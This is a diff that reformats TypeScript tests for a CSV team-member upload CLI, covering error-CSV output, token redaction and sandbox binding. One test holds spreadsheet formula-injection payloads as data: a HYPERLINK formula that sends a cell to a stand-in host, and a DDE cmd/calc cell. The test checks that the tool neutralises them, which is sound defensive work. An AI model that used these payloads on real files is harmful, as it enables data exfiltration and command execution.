@@ -46,7 +46,11 @@ function membersWith(dir: string, name: string, rows: readonly string[]): string
 describe('files full of mistakes', () => {
   it('--errors-csv writes 160,000 rejected rows (a spread of them once overflowed the stack)', async () => {
     const t = tempDir();
-    const file = membersWith(t.dir, 'bad.csv', Array.from({ length: 160_000 }, (_, i) => `E${i},not-an-email-${i},N ${i},,`));
+    const file = membersWith(
+      t.dir,
+      'bad.csv',
+      Array.from({ length: 160_000 }, (_, i) => `E${i},not-an-email-${i},N ${i},,`),
+    );
     const out = join(t.dir, 'rejected.csv');
     const r = await runCli(['team-members', file, '--dry-run', '--json', '--errors-csv', out]);
     expect(r.code).toBe(3);
@@ -62,7 +66,13 @@ describe('files full of mistakes', () => {
 
   it('neutralises formula-like cells in the errors CSV it writes', async () => {
     const t = tempDir();
-    const rows = ['E1,bad1,"=HYPERLINK(""http://x.example/?""&A1)",,', "E2,bad2,+cmd|' /C calc'!A0,,", 'E3,bad3,-2+3,,', 'E4,bad4,@SUM(A1:A9),,', 'E5,bad5,"\t=1+1",,'];
+    const rows = [
+      'E1,bad1,"=HYPERLINK(""http://x.example/?""&A1)",,',
+      "E2,bad2,+cmd|' /C calc'!A0,,",
+      'E3,bad3,-2+3,,',
+      'E4,bad4,@SUM(A1:A9),,',
+      'E5,bad5,"\t=1+1",,',
+    ];
     const file = membersWith(t.dir, 'f.csv', rows);
     const out = join(t.dir, 'rejected.csv');
     expect((await runCli(['team-members', file, '--dry-run', '--errors-csv', out])).code).toBe(3);
@@ -162,7 +172,11 @@ describe.concurrent('tokens an HTTP header cannot carry', () => {
 
   it('a service that echoes the token URL-encoded or JSON-escaped shows it nowhere', async () => {
     const token = 'secret/with+plus&amp=1"quote';
-    const server = await serve({ status: 401, headers: { location: `https://x.example/?t=${encodeURIComponent(token)}` }, body: { message: `bad token ${encodeURIComponent(token)} / ${token} / ${JSON.stringify(token)}`, status: 401 } });
+    const server = await serve({
+      status: 401,
+      headers: { location: `https://x.example/?t=${encodeURIComponent(token)}` },
+      body: { message: `bad token ${encodeURIComponent(token)} / ${token} / ${JSON.stringify(token)}`, status: 401 },
+    });
     const run = await upload(server.url, [], { env: { UPLOAD_TOKEN: token } });
     expect(run.code).toBe(5);
     for (const form of [token, encodeURIComponent(token), JSON.stringify(token).slice(1, -1)]) expect(run.stdout + run.stderr).not.toContain(form);
@@ -172,7 +186,11 @@ describe.concurrent('tokens an HTTP header cannot carry', () => {
 
 describe('a consumer that stops reading', () => {
   it('upload … --json | head -c1 ends with the run’s own exit code and no stack', async () => {
-    const child = spawn(process.execPath, [BIN, 'team-members', fixture('team-members.csv'), '--dry-run', '--json'], { cwd: ROOT, env: { PATH: process.env.PATH ?? '', NO_COLOR: '1' }, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [BIN, 'team-members', fixture('team-members.csv'), '--dry-run', '--json'], {
+      cwd: ROOT,
+      env: { PATH: process.env.PATH ?? '', NO_COLOR: '1' },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     let stderr = '';
     child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
     child.stdout.destroy();
@@ -213,7 +231,11 @@ describe('the sandbox', () => {
     const refused = await runCli(['sandbox', '--host', '0.0.0.0', '--port', '0'], { env: { SANDBOX_TOKEN: TOKEN } });
     expect(refused.code).toBe(2);
     expect(refused.stderr).toMatch(/--host 0\.0\.0\.0 would let other machines reach the sandbox[\s\S]*--allow-remote/);
-    const child = spawn(process.execPath, [BIN, 'sandbox', '--host', '0.0.0.0', '--port', '0', '--allow-remote'], { cwd: ROOT, env: { PATH: process.env.PATH ?? '', SANDBOX_TOKEN: TOKEN }, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [BIN, 'sandbox', '--host', '0.0.0.0', '--port', '0', '--allow-remote'], {
+      cwd: ROOT,
+      env: { PATH: process.env.PATH ?? '', SANDBOX_TOKEN: TOKEN },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     let stderr = '';
     await new Promise<void>((resolve) => child.stderr.on('data', (b: Buffer) => (stderr += b.toString()) && /listening/i.test(stderr) && resolve()));
     child.kill('SIGTERM');
@@ -227,7 +249,9 @@ describe('no token form anywhere, across a whole real run', () => {
     const sb = await sandbox();
     try {
       const t = tempDir();
-      const r = await runCli(['team-members', writeMembers(t.dir, 'a.csv', range(1, 5)), '--yes', '--no-baseline', '--json', '--state-dir', sb.stateDir], { env: { ...sb.env, UPLOAD_TOKEN: TOKEN } });
+      const r = await runCli(['team-members', writeMembers(t.dir, 'a.csv', range(1, 5)), '--yes', '--no-baseline', '--json', '--state-dir', sb.stateDir], {
+        env: { ...sb.env, UPLOAD_TOKEN: TOKEN },
+      });
       expect(r.code).toBe(0);
       expect(CANARY).not.toBe(TOKEN);
       for (const form of [TOKEN, encodeURIComponent(TOKEN)]) expect(r.stdout + r.stderr).not.toContain(form);
